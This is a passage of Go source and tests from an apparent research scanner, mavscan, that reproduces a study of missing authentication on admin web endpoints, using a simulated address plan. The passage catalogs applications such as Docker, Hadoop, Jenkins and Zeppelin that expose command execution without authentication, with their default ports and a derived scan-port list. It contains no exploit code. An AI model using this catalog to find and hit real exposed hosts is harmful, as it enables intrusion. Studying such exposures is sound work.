func (l *pipeListener) Accept() (net.Conn, error) {
	select {
	case c := <-l.conns:
		return c, nil
	case <-l.closed:
		return nil, net.ErrClosed
	}
}

func (l *pipeListener) Close() error {
	select {
	case <-l.closed:
	default:
		close(l.closed)
	}
	return nil
}

func (l *pipeListener) Addr() net.Addr {
	return &net.TCPAddr{IP: net.IPv4(127, 0, 0, 1), Port: 0}
}

// Dial hands the server side of a pipe to the accept loop and returns the
// client side.
func (l *pipeListener) Dial() net.Conn {
	client, server := net.Pipe()
	l.conns <- server
	return client
}

func TestServerServesOverPipe(t *testing.T) {
	lis := newPipeListener()
	srv := Serve(lis, Config{Telemetry: testRegistry()})
	defer srv.Close()

	if srv.Addr() == "" {
		t.Fatal("Addr is empty")
	}

	client := &http.Client{Transport: &http.Transport{
		DialContext: func(context.Context, string, string) (net.Conn, error) { return lis.Dial(), nil },
	}}
	res, err := client.Get("http://ops/healthz")
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(res.Body)
	res.Body.Close()
	if res.StatusCode != http.StatusOK || !strings.HasPrefix(string(body), "ok") {
		t.Fatalf("healthz over pipe = %d %q", res.StatusCode, body)
	}

	if err := srv.Close(); err != nil {
		t.Fatalf("Close: %v", err)
	}
	// Close is idempotent through the nil guard and the http.Server.
	var nilSrv *Server
	if err := nilSrv.Close(); err != nil {
		t.Fatalf("nil Close: %v", err)
	}
	if nilSrv.Addr() != "" {
		t.Fatal("nil Addr should be empty")
	}
}
