package obs

import (
	"fmt"
	"net"
)

// Listen opens the operations plane's TCP listener. It is the single real
// socket in mavscan's internal tree and is deliberately narrow: the
// address must resolve to a loopback interface (":8070" is rewritten to
// "127.0.0.1:8070"), because the plane serves unauthenticated process
// internals — pprof, progress, the event log — that must never face the
// network a scan is probing. Fleet exposure is the future coordinator's
// job, behind its own transport.
//
// This function is the one sanctioned carve-out in mavlint's hermetic
// rule (hermeticFuncExempt in internal/lint/hermetic.go); everything else
// under internal/ still may not touch net.Listen. Tests exercise the
// plane through httptest and net.Pipe instead.
func Listen(addr string) (net.Listener, error) {
	host, port, err := net.SplitHostPort(addr)
	if err != nil {
		return nil, fmt.Errorf("obs: invalid listen address %q: %w", addr, err)
	}
	if host == "" || host == "localhost" {
		host = "127.0.0.1"
	}
	ip := net.ParseIP(host)
	if ip == nil {
		return nil, fmt.Errorf("obs: listen host %q must be a loopback IP or localhost", host)
	}
	if !ip.IsLoopback() {
		return nil, fmt.Errorf("obs: refusing non-loopback listen address %q: the ops plane serves unauthenticated process internals", addr)
	}
	return net.Listen("tcp", net.JoinHostPort(host, port))
}
