// Package geo is the IP metadata service of the study (the paper used a
// commercial API for this). It maps simulated addresses to country,
// autonomous system and provider type, so the geographic breakdowns of
// Tables 4, 7 and 8 can be computed.
package geo

import (
	"fmt"
	"net/netip"
	"sort"
)

// Record is the metadata for one address.
type Record struct {
	Country  string // ISO-ish display name, e.g. "United States"
	ASN      string // e.g. "AS16509"
	Provider string // e.g. "Amazon EC2"
	// Hosting is true for dedicated hosting/cloud providers, false for
	// residential and small-business networks.
	Hosting bool
}

// Allocation assigns a prefix of the simulated address space to a network.
type Allocation struct {
	Prefix netip.Prefix
	Record Record
}

// DB resolves addresses to metadata.
type DB struct {
	allocs []Allocation
}

// New builds a database from explicit allocations.
func New(allocs []Allocation) *DB {
	sorted := make([]Allocation, len(allocs))
	copy(sorted, allocs)
	sort.Slice(sorted, func(i, j int) bool {
		return sorted[i].Prefix.Addr().Less(sorted[j].Prefix.Addr())
	})
	return &DB{allocs: sorted}
}

// defaultNetworks lists the networks of the study's address plan — the
// countries and autonomous systems that appear in the paper's Tables 4, 7
// and 8 — in allocation order. Default and Scaled assign them prefixes of
// different widths.
var defaultNetworks = []Record{
	{Country: "United States", ASN: "AS16509", Provider: "Amazon EC2", Hosting: true},
	{Country: "United States", ASN: "AS14618", Provider: "Amazon AES", Hosting: true},
	{Country: "United States", ASN: "AS396982", Provider: "Google Cloud", Hosting: true},
	{Country: "United States", ASN: "AS14061", Provider: "DigitalOcean", Hosting: true},
	{Country: "United States", ASN: "AS7922", Provider: "Comcast", Hosting: false},
	{Country: "China", ASN: "AS37963", Provider: "Alibaba", Hosting: true},
	{Country: "China", ASN: "AS4134", Provider: "China Telecom", Hosting: false},
	{Country: "Germany", ASN: "AS24940", Provider: "Hetzner", Hosting: true},
	{Country: "Singapore", ASN: "AS14061", Provider: "DigitalOcean", Hosting: true},
	{Country: "France", ASN: "AS16276", Provider: "OVH", Hosting: true},
	{Country: "Netherlands", ASN: "AS211252", Provider: "Serverion BV", Hosting: true},
	{Country: "Brazil", ASN: "AS268624", Provider: "Gamers Club", Hosting: true},
	{Country: "Russia", ASN: "AS49505", Provider: "Selectel", Hosting: true},
	{Country: "Moldova", ASN: "AS200019", Provider: "Alexhost", Hosting: true},
	{Country: "United Kingdom", ASN: "AS20473", Provider: "Vultr UK", Hosting: true},
	{Country: "Poland", ASN: "AS12824", Provider: "home.pl", Hosting: true},
	{Country: "India", ASN: "AS9829", Provider: "BSNL", Hosting: false},
	{Country: "Switzerland", ASN: "AS51395", Provider: "Softplus", Hosting: true},
	{Country: "United States", ASN: "AS7018", Provider: "AT&T", Hosting: false},
	{Country: "United States", ASN: "AS16509", Provider: "Amazon EC2", Hosting: true},
}

// Default returns the study's address plan: a set of /16 allocations
// covering the networks of defaultNetworks, allocation i at 10.(i+1).0.0/16.
func Default() *DB {
	allocs := make([]Allocation, len(defaultNetworks))
	for i, rec := range defaultNetworks {
		allocs[i] = Allocation{
			Prefix: netip.PrefixFrom(netip.AddrFrom4([4]byte{10, byte(i + 1), 0, 0}), 16),
			Record: rec,
		}
	}
	return New(allocs)
}

// MaxScaleBits is the widest supported Scaled plan: 2^11 = 2048× the
// Default address space (the 21st aligned /5 block would not fit below
// 2^32).
const MaxScaleBits = 11

// Scaled returns the Default plan widened 2^extra times: the same networks
// in the same order, each allocation a /(16-extra) instead of a /16, so the
// simulated internet can grow toward real-IPv4 scale while keeping host
// density and the Table-4 placement distribution constant. extra must be in
// [0, MaxScaleBits]; Scaled(0) is Default (including its historical 10.x
// bases). Wider allocations need power-of-two-aligned bases, so allocation
// i sits at address (i+1) << (16+extra).
func Scaled(extra int) (*DB, error) {
	if extra < 0 || extra > MaxScaleBits {
		return nil, fmt.Errorf("geo: scale bits %d out of range [0, %d]", extra, MaxScaleBits)
	}
	if extra == 0 {
		return Default(), nil
	}
	bits := 16 - extra
	allocs := make([]Allocation, len(defaultNetworks))
	for i, rec := range defaultNetworks {
		base := uint32(i+1) << (16 + extra)
		addr := netip.AddrFrom4([4]byte{byte(base >> 24), byte(base >> 16), byte(base >> 8), byte(base)})
		allocs[i] = Allocation{Prefix: netip.PrefixFrom(addr, bits), Record: rec}
	}
	return New(allocs), nil
}

// Prefixes returns all allocated prefixes, the default scan target list.
func (db *DB) Prefixes() []netip.Prefix {
	out := make([]netip.Prefix, len(db.allocs))
	for i, a := range db.allocs {
		out[i] = a.Prefix
	}
	return out
}

// Allocations returns the allocation table (shared slice; do not modify).
func (db *DB) Allocations() []Allocation { return db.allocs }

// PrefixFor returns the first allocated prefix whose record matches the
// given predicate; population generators use it to place hosts.
func (db *DB) PrefixFor(match func(Record) bool) (netip.Prefix, error) {
	for _, a := range db.allocs {
		if match(a.Record) {
			return a.Prefix, nil
		}
	}
	return netip.Prefix{}, fmt.Errorf("geo: no allocation matches predicate")
}

// Lookup resolves ip. Unallocated addresses resolve to an "Unknown" record.
func (db *DB) Lookup(ip netip.Addr) Record {
	for _, a := range db.allocs {
		if a.Prefix.Contains(ip) {
			return a.Record
		}
	}
	return Record{Country: "Unknown", ASN: "AS0", Provider: "Unknown"}
}
