// Package geo is the IP metadata service of the study (the paper used a
// commercial API for this). It maps simulated addresses to country,
// autonomous system and provider type, so the geographic breakdowns of
// Tables 4, 7 and 8 can be computed.
package geo

import (
	"fmt"
	"net/netip"
	"sort"
)

// Record is the metadata for one address.
type Record struct {
	Country  string // ISO-ish display name, e.g. "United States"
	ASN      string // e.g. "AS16509"
	Provider string // e.g. "Amazon EC2"
	// Hosting is true for dedicated hosting/cloud providers, false for
	// residential and small-business networks.
	Hosting bool
}

// Allocation assigns a prefix of the simulated address space to a network.
type Allocation struct {
	Prefix netip.Prefix
	Record Record
}

// DB resolves addresses to metadata.
type DB struct {
	allocs []Allocation
}

// New builds a database from explicit allocations.
func New(allocs []Allocation) *DB {
	sorted := make([]Allocation, len(allocs))
	copy(sorted, allocs)
	sort.Slice(sorted, func(i, j int) bool {
		return sorted[i].Prefix.Addr().Less(sorted[j].Prefix.Addr())
	})
	return &DB{allocs: sorted}
}

// Default returns the study's address plan: a set of /16 allocations
// covering the countries and autonomous systems that appear in the paper's
// Tables 4, 7 and 8.
func Default() *DB {
	mk := func(cidr, country, asn, provider string, hosting bool) Allocation {
		return Allocation{
			Prefix: netip.MustParsePrefix(cidr),
			Record: Record{Country: country, ASN: asn, Provider: provider, Hosting: hosting},
		}
	}
	return New([]Allocation{
		mk("10.1.0.0/16", "United States", "AS16509", "Amazon EC2", true),
		mk("10.2.0.0/16", "United States", "AS14618", "Amazon AES", true),
		mk("10.3.0.0/16", "United States", "AS396982", "Google Cloud", true),
		mk("10.4.0.0/16", "United States", "AS14061", "DigitalOcean", true),
		mk("10.5.0.0/16", "United States", "AS7922", "Comcast", false),
		mk("10.6.0.0/16", "China", "AS37963", "Alibaba", true),
		mk("10.7.0.0/16", "China", "AS4134", "China Telecom", false),
		mk("10.8.0.0/16", "Germany", "AS24940", "Hetzner", true),
		mk("10.9.0.0/16", "Singapore", "AS14061", "DigitalOcean", true),
		mk("10.10.0.0/16", "France", "AS16276", "OVH", true),
		mk("10.11.0.0/16", "Netherlands", "AS211252", "Serverion BV", true),
		mk("10.12.0.0/16", "Brazil", "AS268624", "Gamers Club", true),
		mk("10.13.0.0/16", "Russia", "AS49505", "Selectel", true),
		mk("10.14.0.0/16", "Moldova", "AS200019", "Alexhost", true),
		mk("10.15.0.0/16", "United Kingdom", "AS20473", "Vultr UK", true),
		mk("10.16.0.0/16", "Poland", "AS12824", "home.pl", true),
		mk("10.17.0.0/16", "India", "AS9829", "BSNL", false),
		mk("10.18.0.0/16", "Switzerland", "AS51395", "Softplus", true),
		mk("10.19.0.0/16", "United States", "AS7018", "AT&T", false),
		mk("10.20.0.0/16", "United States", "AS16509", "Amazon EC2", true),
	})
}

// Prefixes returns all allocated prefixes, the default scan target list.
func (db *DB) Prefixes() []netip.Prefix {
	out := make([]netip.Prefix, len(db.allocs))
	for i, a := range db.allocs {
		out[i] = a.Prefix
	}
	return out
}

// Allocations returns the allocation table (shared slice; do not modify).
func (db *DB) Allocations() []Allocation { return db.allocs }

// PrefixFor returns the first allocated prefix whose record matches the
// given predicate; population generators use it to place hosts.
func (db *DB) PrefixFor(match func(Record) bool) (netip.Prefix, error) {
	for _, a := range db.allocs {
		if match(a.Record) {
			return a.Prefix, nil
		}
	}
	return netip.Prefix{}, fmt.Errorf("geo: no allocation matches predicate")
}

// Lookup resolves ip. Unallocated addresses resolve to an "Unknown" record.
func (db *DB) Lookup(ip netip.Addr) Record {
	for _, a := range db.allocs {
		if a.Prefix.Contains(ip) {
			return a.Record
		}
	}
	return Record{Country: "Unknown", ASN: "AS0", Provider: "Unknown"}
}
