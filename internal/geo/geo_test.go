package geo

import (
	"net/netip"
	"testing"
)

func TestDefaultAllocationsCoverStudyNetworks(t *testing.T) {
	db := Default()
	// The paper's key ASes (Tables 4 and 8) must be allocatable.
	for _, asn := range []string{
		"AS16509", "AS37963", "AS14618", "AS14061", "AS396982", // Table 4
		"AS211252", "AS268624", "AS200019", // Table 8
	} {
		if _, err := db.PrefixFor(func(r Record) bool { return r.ASN == asn }); err != nil {
			t.Errorf("no allocation for %s", asn)
		}
	}
	// And the key countries (Table 7).
	for _, country := range []string{
		"United States", "China", "Germany", "Singapore", "France",
		"Netherlands", "Brazil", "Russia", "Moldova", "United Kingdom",
		"Poland", "India", "Switzerland",
	} {
		if _, err := db.PrefixFor(func(r Record) bool { return r.Country == country }); err != nil {
			t.Errorf("no allocation for %s", country)
		}
	}
}

func TestLookupResolvesInsideAllocations(t *testing.T) {
	db := Default()
	for _, a := range db.Allocations() {
		// Probe the first, a middle and the last address of the prefix.
		first := a.Prefix.Addr()
		if got := db.Lookup(first); got != a.Record {
			t.Errorf("Lookup(%s) = %+v, want %+v", first, got, a.Record)
		}
	}
}

func TestLookupUnknown(t *testing.T) {
	db := Default()
	rec := db.Lookup(netip.MustParseAddr("192.0.2.1"))
	if rec.Country != "Unknown" || rec.ASN != "AS0" {
		t.Fatalf("unallocated address resolved to %+v", rec)
	}
}

func TestPrefixesAreDisjoint(t *testing.T) {
	db := Default()
	prefixes := db.Prefixes()
	for i := range prefixes {
		for j := i + 1; j < len(prefixes); j++ {
			if prefixes[i].Overlaps(prefixes[j]) {
				t.Errorf("allocations %s and %s overlap", prefixes[i], prefixes[j])
			}
		}
	}
}

func TestHostingFlagDistinguishesProviders(t *testing.T) {
	db := Default()
	hosting, residential := 0, 0
	for _, a := range db.Allocations() {
		if a.Record.Hosting {
			hosting++
		} else {
			residential++
		}
	}
	if hosting == 0 || residential == 0 {
		t.Fatalf("address plan needs both hosting (%d) and residential (%d) networks", hosting, residential)
	}
}

func TestPrefixForNoMatch(t *testing.T) {
	db := Default()
	if _, err := db.PrefixFor(func(r Record) bool { return r.ASN == "AS99999" }); err == nil {
		t.Fatal("impossible predicate must error")
	}
}
