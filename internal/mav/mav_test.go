package mav

import "testing"

func TestCatalogShapeMatchesPaper(t *testing.T) {
	cat := Catalog()
	if len(cat) != 25 {
		t.Fatalf("catalog has %d apps, want 25", len(cat))
	}
	perCat := map[Category]int{}
	for _, info := range cat {
		perCat[info.Category]++
	}
	for _, c := range Categories() {
		if perCat[c] != 5 {
			t.Errorf("category %s has %d apps, want 5", c, perCat[c])
		}
	}
	if got := len(InScopeApps()); got != 18 {
		t.Fatalf("in-scope apps = %d, want 18", got)
	}
}

func TestTable1Breakdown(t *testing.T) {
	// 9 insecure by default, 4 changed over time, 5 secure by default
	// (misconfigurable); 7 Syscmd, 5 API, 2 SQL, 4 Install.
	byDefault := map[DefaultStatus]int{}
	byKind := map[Kind]int{}
	for _, info := range InScopeApps() {
		byDefault[info.Default]++
		byKind[info.Kind]++
	}
	if byDefault[InsecureByDefault] != 9 {
		t.Errorf("insecure by default = %d, want 9", byDefault[InsecureByDefault])
	}
	if byDefault[ChangedOverTime] != 4 {
		t.Errorf("changed over time = %d, want 4", byDefault[ChangedOverTime])
	}
	if byDefault[SecureByDefault] != 5 {
		t.Errorf("secure by default = %d, want 5", byDefault[SecureByDefault])
	}
	if byKind[KindSyscmd] != 7 || byKind[KindAPI] != 5 || byKind[KindSQL] != 2 || byKind[KindInstall] != 4 {
		t.Errorf("kind breakdown = %v, want 7 Syscmd / 5 API / 2 SQL / 4 Install", byKind)
	}
}

func TestScanPortsMatchPaper(t *testing.T) {
	ports := ScanPorts()
	want := []int{80, 443, 2375, 4646, 6443, 8000, 8080, 8088, 8153, 8192, 8500, 8888}
	if len(ports) != len(want) {
		t.Fatalf("ScanPorts = %v, want %v (the paper's 12 ports)", ports, want)
	}
	for i := range want {
		if ports[i] != want[i] {
			t.Fatalf("ScanPorts = %v, want %v", ports, want)
		}
	}
}

func TestLookup(t *testing.T) {
	info, err := Lookup(Docker)
	if err != nil {
		t.Fatal(err)
	}
	if info.Kind != KindAPI || info.Category != CM || info.Default != InsecureByDefault {
		t.Fatalf("Docker row wrong: %+v", info)
	}
	if _, err := Lookup(App("NotAnApp")); err == nil {
		t.Fatal("unknown app must error")
	}
	defer func() {
		if recover() == nil {
			t.Fatal("MustLookup of unknown app must panic")
		}
	}()
	MustLookup(App("NotAnApp"))
}

func TestInScopeAppsHavePorts(t *testing.T) {
	for _, info := range InScopeApps() {
		if len(info.Ports) == 0 {
			t.Errorf("%s: in scope but no default ports", info.App)
		}
	}
}

func TestDefaultStatusSymbols(t *testing.T) {
	cases := map[DefaultStatus]string{
		SecureByDefault:    "ok",
		InsecureByDefault:  "X",
		ChangedOverTime:    "+",
		DefaultStatus("?"): "?",
	}
	for status, want := range cases {
		if got := status.Symbol(); got != want {
			t.Errorf("%q.Symbol() = %q, want %q", status, got, want)
		}
	}
}

func TestFindingString(t *testing.T) {
	f := Finding{App: Hadoop, Kind: KindAPI, Port: 8088, Details: "open RM"}
	want := "Hadoop (API) on port 8088: open RM"
	if got := f.String(); got != want {
		t.Fatalf("String() = %q, want %q", got, want)
	}
}

func TestCatalogReturnsCopy(t *testing.T) {
	c1 := Catalog()
	c1[0].Stars = 9999
	c2 := Catalog()
	if c2[0].Stars == 9999 {
		t.Fatal("Catalog must return a defensive copy")
	}
}
