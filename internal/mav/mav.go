// Package mav defines the vocabulary of the study: administrative web
// endpoints (AWEs), missing authentication vulnerabilities (MAVs), the five
// application categories, and the catalog of the 25 investigated
// applications with the properties reported in Table 1 of the paper.
package mav

import (
	"fmt"
	"sort"
)

// Category is one of the five AWE categories from Section 2.1.
type Category string

// The five categories of administrative web endpoints.
const (
	CI  Category = "CI"  // continuous integration
	CMS Category = "CMS" // content management systems
	CM  Category = "CM"  // cluster management
	NB  Category = "NB"  // notebooks
	CP  Category = "CP"  // control panels
)

// Categories lists all categories in the order used by the paper's tables.
func Categories() []Category { return []Category{CI, CMS, CM, NB, CP} }

// Kind describes the flavor of sensitive functionality an AWE exposes when
// its authentication is missing (the "Vuln" column of Table 1).
type Kind string

// The four MAV flavors from Section 2.
const (
	KindNone    Kind = ""        // not in scope: no MAV
	KindSyscmd  Kind = "Syscmd"  // direct system command execution
	KindAPI     Kind = "API"     // critical HTTP API wrapping system commands
	KindSQL     Kind = "SQL"     // SQL command execution
	KindInstall Kind = "Install" // unauthenticated installation (trust on first use)
)

// DefaultStatus captures the "Default" column of Tables 3 and 9: whether an
// application ships with a MAV in its default configuration.
type DefaultStatus string

const (
	// SecureByDefault means the default configuration requires
	// authentication; the MAV requires an explicit misconfiguration.
	SecureByDefault DefaultStatus = "secure"
	// InsecureByDefault means a fresh default installation exposes the MAV.
	InsecureByDefault DefaultStatus = "insecure"
	// ChangedOverTime means the product was insecure by default in an older
	// version and later changed its defaults (the dagger in the tables).
	ChangedOverTime DefaultStatus = "changed"
)

// Symbol returns the glyph the paper uses for the status: a check mark for
// secure, a cross for insecure, a dagger for changed over time.
func (d DefaultStatus) Symbol() string {
	switch d {
	case SecureByDefault:
		return "ok"
	case InsecureByDefault:
		return "X"
	case ChangedOverTime:
		return "+"
	default:
		return "?"
	}
}

// App identifies one of the 25 investigated applications.
type App string

// The 25 investigated applications, five per category (Table 1).
const (
	// Continuous integration.
	Gitlab  App = "Gitlab"
	Drone   App = "Drone"
	Jenkins App = "Jenkins"
	Travis  App = "Travis"
	GoCD    App = "GoCD"
	// Content management systems.
	Ghost     App = "Ghost"
	WordPress App = "WordPress"
	Grav      App = "Grav"
	Joomla    App = "Joomla"
	Drupal    App = "Drupal"
	// Cluster management.
	Kubernetes App = "Kubernetes"
	Docker     App = "Docker"
	Consul     App = "Consul"
	Hadoop     App = "Hadoop"
	Nomad      App = "Nomad"
	// Notebooks.
	JupyterLab      App = "J-Lab"
	JupyterNotebook App = "J-Notebook"
	Zeppelin        App = "Zeppelin"
	Polynote        App = "Polynote"
	SparkNotebook   App = "Spark NB"
	// Control panels.
	Ajenti     App = "Ajenti"
	PhpMyAdmin App = "phpMyAdmin"
	Adminer    App = "Adminer"
	VestaCP    App = "VestaCP"
	OmniDB     App = "OmniDB"
)

// Info is one row of Table 1 plus the operational data (default ports,
// version markers) the scanning pipeline needs.
type Info struct {
	App      App
	Category Category
	// Stars is the GitHub star count (thousands) used for selection.
	Stars int
	// Kind is the flavor of the exposed sensitive functionality; KindNone
	// marks the 7 products that are out of scope.
	Kind Kind
	// Default describes the default-configuration security posture. It is
	// meaningful only for in-scope applications.
	Default DefaultStatus
	// DefaultChangedIn names the release (and year) that turned the default
	// secure, for applications with Default == ChangedOverTime.
	DefaultChangedIn string
	// Warns reports whether the vendor warns about the insecurity (in docs,
	// at download, or at startup). Only meaningful for in-scope apps.
	Warns bool
	// Ports are the default ports the application listens on; the scan's
	// port list is the union of these plus 80 and 443.
	Ports []int
}

// InScope reports whether the application is part of the 18-product MAV
// study (Table 1 rows with a non-empty Vuln column).
func (i Info) InScope() bool { return i.Kind != KindNone }

// catalog is Table 1 verbatim. Order matters: it is the paper's row order.
var catalog = []Info{
	{App: Gitlab, Category: CI, Stars: 23},
	{App: Drone, Category: CI, Stars: 23},
	{App: Jenkins, Category: CI, Stars: 18, Kind: KindSyscmd, Default: ChangedOverTime, DefaultChangedIn: "2.0 (2016)", Ports: []int{8080}},
	{App: Travis, Category: CI, Stars: 8},
	{App: GoCD, Category: CI, Stars: 6, Kind: KindSyscmd, Default: InsecureByDefault, Warns: true, Ports: []int{8153}},

	{App: Ghost, Category: CMS, Stars: 38},
	{App: WordPress, Category: CMS, Stars: 15, Kind: KindInstall, Default: InsecureByDefault, Ports: []int{80, 443}},
	{App: Grav, Category: CMS, Stars: 13, Kind: KindInstall, Default: InsecureByDefault, Ports: []int{80, 443}},
	{App: Joomla, Category: CMS, Stars: 4, Kind: KindInstall, Default: ChangedOverTime, DefaultChangedIn: "3.7.4 (2017)", Ports: []int{80, 443}},
	{App: Drupal, Category: CMS, Stars: 4, Kind: KindInstall, Default: InsecureByDefault, Ports: []int{80, 443}},

	{App: Kubernetes, Category: CM, Stars: 78, Kind: KindAPI, Default: SecureByDefault, Ports: []int{6443}},
	{App: Docker, Category: CM, Stars: 23, Kind: KindAPI, Default: InsecureByDefault, Ports: []int{2375}},
	{App: Consul, Category: CM, Stars: 22, Kind: KindAPI, Default: SecureByDefault, Ports: []int{8500}},
	{App: Hadoop, Category: CM, Stars: 12, Kind: KindAPI, Default: InsecureByDefault, Ports: []int{8088}},
	{App: Nomad, Category: CM, Stars: 9, Kind: KindAPI, Default: InsecureByDefault, Warns: true, Ports: []int{4646}},

	{App: JupyterLab, Category: NB, Stars: 11, Kind: KindSyscmd, Default: SecureByDefault, Ports: []int{8888}},
	{App: JupyterNotebook, Category: NB, Stars: 8, Kind: KindSyscmd, Default: ChangedOverTime, DefaultChangedIn: "4.3 (2016)", Ports: []int{8888}},
	{App: Zeppelin, Category: NB, Stars: 5, Kind: KindSyscmd, Default: InsecureByDefault, Ports: []int{8080}},
	{App: Polynote, Category: NB, Stars: 4, Kind: KindSyscmd, Default: InsecureByDefault, Warns: true, Ports: []int{8192}},
	{App: SparkNotebook, Category: NB, Stars: 3},

	{App: Ajenti, Category: CP, Stars: 6, Kind: KindSyscmd, Default: SecureByDefault, Warns: true, Ports: []int{8000}},
	{App: PhpMyAdmin, Category: CP, Stars: 6, Kind: KindSQL, Default: SecureByDefault, Ports: []int{80, 443}},
	{App: Adminer, Category: CP, Stars: 5, Kind: KindSQL, Default: ChangedOverTime, DefaultChangedIn: "4.6.3 (2018)", Ports: []int{80, 443}},
	{App: VestaCP, Category: CP, Stars: 3},
	{App: OmniDB, Category: CP, Stars: 3},
}

var byApp = func() map[App]Info {
	m := make(map[App]Info, len(catalog))
	for _, info := range catalog {
		m[info.App] = info
	}
	return m
}()

// Catalog returns all 25 investigated applications in Table 1 order. The
// returned slice is a copy and may be modified by the caller.
func Catalog() []Info {
	out := make([]Info, len(catalog))
	copy(out, catalog)
	return out
}

// InScopeApps returns the 18 applications with a MAV, in table order.
func InScopeApps() []Info {
	var out []Info
	for _, info := range catalog {
		if info.InScope() {
			out = append(out, info)
		}
	}
	return out
}

// Lookup returns the catalog entry for app.
func Lookup(app App) (Info, error) {
	info, ok := byApp[app]
	if !ok {
		return Info{}, fmt.Errorf("mav: unknown application %q", app)
	}
	return info, nil
}

// MustLookup is Lookup for known-valid applications; it panics otherwise.
func MustLookup(app App) Info {
	info, err := Lookup(app)
	if err != nil {
		panic(err)
	}
	return info
}

// ScanPorts returns the deduplicated, sorted union of 80, 443 and the
// default ports of all in-scope applications — the 12 ports of Stage I.
func ScanPorts() []int {
	set := map[int]bool{80: true, 443: true}
	for _, info := range catalog {
		if !info.InScope() {
			continue
		}
		for _, p := range info.Ports {
			set[p] = true
		}
	}
	out := make([]int, 0, len(set))
	for p := range set {
		out = append(out, p)
	}
	sort.Ints(out)
	return out
}

// Finding is a confirmed missing authentication vulnerability on a host.
type Finding struct {
	App  App
	Kind Kind
	// Port is the port the vulnerable endpoint was reached on.
	Port int
	// Details is a human-readable explanation from the detection plugin.
	Details string
}

func (f Finding) String() string {
	return fmt.Sprintf("%s (%s) on port %d: %s", f.App, f.Kind, f.Port, f.Details)
}
