package lint

import (
	"flag"
	"fmt"
	"go/types"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"
)

var updateGolden = flag.Bool("update", false, "rewrite testdata/api.golden from the current root package")

// TestRootAPIGolden diffs the exported surface of the root mavscan package
// against the checked-in manifest. The root package is the repo's public
// contract — examples and downstream experiments compile against it — so
// any breaking change (removed or re-signatured export) must show up in
// review as a diff of testdata/api.golden, regenerated with:
//
//	go test ./internal/lint -run RootAPIGolden -update
func TestRootAPIGolden(t *testing.T) {
	root, err := FindModuleRoot(".")
	if err != nil {
		t.Fatal(err)
	}
	pkgs, err := LoadModule(root)
	if err != nil {
		t.Fatal(err)
	}
	var rootPkg *Package
	for _, p := range pkgs {
		if p.Path == "mavscan" {
			rootPkg = p
		}
	}
	if rootPkg == nil {
		t.Fatal("module root package mavscan not loaded")
	}

	manifest := apiManifest(rootPkg.Types)
	goldenPath := filepath.Join("testdata", "api.golden")
	if *updateGolden {
		if err := os.WriteFile(goldenPath, []byte(manifest), 0o644); err != nil {
			t.Fatal(err)
		}
		t.Logf("wrote %s (%d lines)", goldenPath, strings.Count(manifest, "\n"))
		return
	}
	golden, err := os.ReadFile(goldenPath)
	if err != nil {
		t.Fatalf("missing API manifest (run with -update to generate): %v", err)
	}
	if manifest == string(golden) {
		return
	}
	// Report the first differing lines so a breaking change is readable
	// without a manual diff.
	got, want := strings.Split(manifest, "\n"), strings.Split(string(golden), "\n")
	for i := 0; i < len(got) || i < len(want); i++ {
		var g, w string
		if i < len(got) {
			g = got[i]
		}
		if i < len(want) {
			w = want[i]
		}
		if g != w {
			t.Fatalf("root API surface changed at manifest line %d:\n  have: %s\n  want: %s\n\nIf the change is intentional, regenerate with: go test ./internal/lint -run RootAPIGolden -update",
				i+1, g, w)
		}
	}
	t.Fatal("root API surface changed (length mismatch); regenerate with -update if intentional")
}

// apiManifest renders one sorted line per exported object of pkg. Types
// are printed through a qualifier that strips the module prefix, so the
// manifest is stable under repository relocation.
func apiManifest(pkg *types.Package) string {
	qual := func(other *types.Package) string {
		if other == pkg {
			return ""
		}
		return strings.TrimPrefix(other.Path(), "mavscan/internal/")
	}
	scope := pkg.Scope()
	var lines []string
	for _, name := range scope.Names() {
		obj := scope.Lookup(name)
		if !obj.Exported() {
			continue
		}
		switch obj := obj.(type) {
		case *types.TypeName:
			if obj.IsAlias() {
				lines = append(lines, fmt.Sprintf("type %s = %s", name, types.TypeString(obj.Type(), qual)))
			} else {
				lines = append(lines, fmt.Sprintf("type %s %s", name, types.TypeString(obj.Type().Underlying(), qual)))
			}
		case *types.Func:
			lines = append(lines, fmt.Sprintf("func %s%s", name, strings.TrimPrefix(types.TypeString(obj.Type(), qual), "func")))
		case *types.Var:
			lines = append(lines, fmt.Sprintf("var %s %s", name, types.TypeString(obj.Type(), qual)))
		case *types.Const:
			lines = append(lines, fmt.Sprintf("const %s %s", name, types.TypeString(obj.Type(), qual)))
		}
	}
	sort.Strings(lines)
	return strings.Join(lines, "\n") + "\n"
}
