package lint

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestBadModuleGolden loads the checked-in violation fixtures as their own
// module and compares the full suite output against the golden file. The
// fixtures double as the end-to-end demonstration required of mavlint:
// `go run ./cmd/mavlint ./internal/lint/testdata/badmodule` exits non-zero
// with exactly these diagnostics.
func TestBadModuleGolden(t *testing.T) {
	root := filepath.Join("testdata", "badmodule")
	pkgs, err := LoadModule(root)
	if err != nil {
		t.Fatalf("LoadModule(%s): %v", root, err)
	}
	findings := RunSuite(pkgs, Analyzers())
	var lines []string
	for _, f := range findings {
		lines = append(lines, filepath.ToSlash(f.String()))
	}
	got := strings.Join(lines, "\n") + "\n"

	goldenPath := filepath.Join("testdata", "badmodule.golden")
	want, err := os.ReadFile(goldenPath)
	if err != nil {
		t.Fatalf("reading golden file: %v", err)
	}
	if got != string(want) {
		t.Errorf("suite output differs from %s:\n--- got ---\n%s--- want ---\n%s", goldenPath, got, want)
	}

	// Every rule must be represented: the fixtures are the regression net
	// for the whole suite, not just for whichever analyzer last changed.
	for _, a := range Analyzers() {
		if !strings.Contains(got, "["+a.Name+"]") {
			t.Errorf("fixture module triggers no %q finding", a.Name)
		}
	}
}

// TestBadModulePerRule runs each analyzer alone over the fixture module and
// checks it reports findings only for its own rule, in its own fixture
// package.
func TestBadModulePerRule(t *testing.T) {
	pkgs, err := LoadModule(filepath.Join("testdata", "badmodule"))
	if err != nil {
		t.Fatal(err)
	}
	for _, a := range Analyzers() {
		t.Run(a.Name, func(t *testing.T) {
			findings := RunSuite(pkgs, []*Analyzer{a})
			if len(findings) == 0 {
				t.Fatalf("analyzer %q found nothing in the fixture module", a.Name)
			}
			for _, f := range findings {
				if f.Rule != a.Name {
					t.Errorf("analyzer %q produced finding for rule %q", a.Name, f.Rule)
				}
			}
		})
	}
}
