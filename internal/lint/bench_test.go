package lint

import (
	"testing"
)

// loadRealModule loads the enclosing repository once per benchmark, so
// the timed loop measures analysis alone (analyzer wall-time per rule is
